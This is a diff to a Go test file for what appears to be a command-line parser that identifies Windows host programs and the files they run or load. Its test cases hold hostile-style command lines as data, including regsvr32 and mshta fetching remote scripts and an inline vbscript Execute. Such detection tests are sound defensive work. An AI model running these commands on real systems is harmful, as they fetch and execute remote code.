@@ -65,8 +65,8 @@ func TestRead(t *testing.T) {
 
 		// Hosts
 		{`rundll32.exe C:\x.dll,Go C:\y`, `runs rundll32.exe; rundll32 loads C:\x.dll; rundll32 mentions C:\y`, ""},
-		{`rundll32 "C:\a b\x.dll",#1`, `runs rundll32; rundll32 loads C:\a b\x.dll; rundll32 mentions #1`, ""},
-		{`regsvr32 /s /i:http://h/y scrobj.dll`, `runs regsvr32; regsvr32 takes http://h/y; regsvr32 loads scrobj.dll`, ""},
+		{`rundll32 "C:\a b\x.dll",#1`, `runs rundll32; rundll32 loads C:\a b\x.dll`, ""},
+		{`regsvr32 /s /i:http://h/y scrobj.dll`, `runs regsvr32; regsvr32 runs http://h/y; regsvr32 loads scrobj.dll`, ""},
 		{`wscript.exe //B "C:\a b.vbs" C:\y`, `runs wscript.exe; wscript runs C:\a b.vbs; wscript mentions C:\y`, ""},
 		{`mshta http://198.51.100.1/a.hta`, `runs mshta; mshta runs http://198.51.100.1/a.hta`, ""},
 		{`mshta vbscript:Close(Execute("x"))`, `runs mshta`, `vbscript:Close(Execute("x"))`},
@@ -102,7 +102,7 @@ func TestRead(t *testing.T) {
 func TestHosts(t *testing.T) {
 	for name := range hosts {
 		used := false
-		for _, form := range []string{`%s C:\x.exe`, `%s /c C:\x.exe`, `%s -jar C:\x.exe`, `%s /i C:\x.exe`, `%s -a C:\x.exe`, `%s --headless C:\x.exe`} {
+		for _, form := range []string{`%s C:\x.exe`, `%s /c C:\x.exe`, `%s -jar C:\x.exe`, `%s /i C:\x.exe`, `%s -a C:\x.exe`, `%s --headless C:\x.exe`, `%s process call create C:\x.exe`} {
 			uses, _ := Read(fmt.Sprintf(form, name))
 			used = used || slices.ContainsFunc(uses, func(u Use) bool { return u.Host != "" && u.Verb.Starts() && u.Paths[0] == `C:\x.exe` })
 		}
